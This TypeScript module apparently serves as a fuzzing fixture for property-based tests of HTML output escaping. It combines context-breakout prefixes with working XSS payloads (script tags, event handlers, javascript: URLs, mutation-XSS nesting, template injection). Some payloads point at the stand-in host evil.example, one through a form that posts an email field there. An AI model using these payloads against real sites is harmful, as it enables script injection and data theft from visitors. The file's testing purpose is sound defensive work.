import fc from 'fast-check';

const breakouts = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '\0',
  '\r\n',
  '&quot;>',
];
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;">',
  '<style>@import url(//evil.example)</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '<form action=//evil.example><input name=email>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  ' autofocus onfocus=alert(1) ',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Over 200 ways of breaking out of text, attributes, comments and raw text. */
export const xss: readonly string[] = breakouts.flatMap((breakout) => payloads.map((payload) => breakout + payload));

/** Whatever a visitor may type: anything at all, and often something hostile. */
export const typed = fc.oneof(
  fc.constantFrom(...xss),
  fc.string({ unit: 'binary' }),
  fc.array(fc.constantFrom(...breakouts, ...payloads, 'a', ' '), { maxLength: 6 }).map((parts) => parts.join('')),
);
